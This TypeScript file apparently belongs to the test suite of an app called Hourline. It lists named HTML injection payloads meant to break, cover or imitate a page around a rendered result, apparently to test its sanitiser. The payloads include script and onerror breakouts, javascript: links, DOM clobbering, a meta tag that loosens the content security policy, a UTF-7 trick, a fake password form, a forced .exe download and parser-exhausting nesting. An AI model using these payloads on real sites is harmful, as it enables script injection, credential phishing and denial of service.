import type { ResultAttacks } from '../results.ts';

const image = (run: string) => `<img src="x:" onerror="${run}">`;

/** What would swallow, break, cover or imitate the page around a result, or exhaust who reads it. */
export const STRUCTURE: ResultAttacks = {
  'closes-its-section': (_, run) => `</div></section></main><h1>Hourline</h1>${image(run)}`,
  'closes-body-and-html': (_, run) => `</body></html><script>${run}</script>`,
  'closes-our-data-block': (_, run) => `</script><script>${run}</script>`,
  'another-data-block': (_, run) =>
    `<script type="application/json" id="hourline-workbook">{"form":"hourline-share-page-2"}</script>${image(run)}`,
  'another-code': (_, run) =>
    `<pre class="code"><code data-cell="0">${run}</code></pre><code data-cell="1">${run}</code><script>${run}</script>`,
  'whole-page-inside': (_, run) =>
    `<!doctype html><html><head><title>x</title></head><body onload="${run}"><p>x</p></body></html>`,
  'never-ending-text': (_, run) => `${image(run)}<plaintext>`,
  'never-ending-comment': (_, run) => `${image(run)}<!-- `,
  'never-ending-style': (_, run) => `${image(run)}<style>`,
  'never-ending-title': (_, run) => `${image(run)}<title>`,
  'never-ending-textarea': (_, run) => `${image(run)}<textarea>`,
  'never-ending-select': (_, run) => `${image(run)}<select>`,
  'never-ending-frame': (_, run) => `${image(run)}<iframe>`,
  'never-ending-attribute': (_, run) => `${image(run)}<p title="`,
  'never-ending-script': (_, run) => `<script>${run}</script><script>`,
  'never-ending-svg': (_, run) => `${image(run)}<svg><desc>`,
  'never-ending-table': (_, run) => `<table><tr><td>${image(run)}`,
  'never-ending-link': (_, run) => `<a href="javascript:${run}">x`,
  'never-ending-form': (there) => `<form action="${there}"><button>x</button>`,
  'clobbers-the-document': (_, run) =>
    `<form name="body" onclick="${run}"><input name="attributes"><input name="children"><input name="parentNode"></form><img name="cookie" src="x:" onerror="${run}">`,
  'clobbers-its-own-element': (_, run) =>
    `<form onclick="${run}"><input name="nodeName"><input name="removeChild"><input name="getAttributeNode">${image(run)}</form>`,
  'takes-our-names': (_, run) =>
    `<p id="cautions-title" onclick="${run}">No cautions</p><h2 id="provenance-title">x</h2><p id="hourline-workbook">x</p>`,
  'refers-to-our-names': (_, run) => `<p aria-labelledby="cautions-title" onmouseover="${run}">x</p>`,
  'changes-the-policy': (there) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${there}">`,
  'changes-the-encoding': (_, run) =>
    `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-${image(run)}`,
  'asks-for-a-password': (there) =>
    `<dialog open><form action="${there}"><label>Password <input type="password" name="p"></label><button>x</button></form></dialog>`,
  'covers-the-page': (_, run) =>
    `<style>* { display: none }</style><p style="position: fixed; inset: 0; z-index: 9999" onclick="${run}">x</p>`,
  'prints-and-opens': (there, run) =>
    `<a href="${there}" download="x.exe" onclick="${run}">x</a><object type="application/pdf" data="${there}"></object>`,
  'very-deep': (_, run) => `${'<div>'.repeat(10_000)}${image(run)}${'</div>'.repeat(10_000)}`,
  'very-deep-letters': (_, run) => `${'<b><i>'.repeat(750)}${image(run)}`,
  'very-deep-svg': (_, run) => `<svg>${'<g>'.repeat(1_500)}<foreignObject>${image(run)}`,
  'very-deep-template': (_, run) =>
    `${'<template>'.repeat(1_000)}${image(run)}${'</template>'.repeat(1_000)}${image(run)}`,
  'very-many-attributes': (_, run) =>
    `<p ${Array.from({ length: 500 }, (_, i) => `a${i}=""`).join(' ')} onclick="${run}">x</p>`,
  'very-long-attribute': (_, run) => `<p title="${'x'.repeat(500_000)}" onclick="${run}">x</p>`,
};
